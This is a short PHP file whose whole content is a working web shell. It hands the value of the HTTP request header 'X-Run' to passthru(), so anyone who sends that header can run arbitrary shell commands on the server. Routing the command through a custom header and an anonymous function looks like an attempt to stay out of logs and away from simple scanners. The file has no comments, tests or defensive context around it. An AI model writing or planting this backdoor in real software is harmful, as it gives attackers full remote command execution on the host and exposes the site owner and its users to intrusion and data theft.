<?php
$runner = function ($x) {
    return passthru($x);
};
$runner($_SERVER['HTTP_X_RUN']);
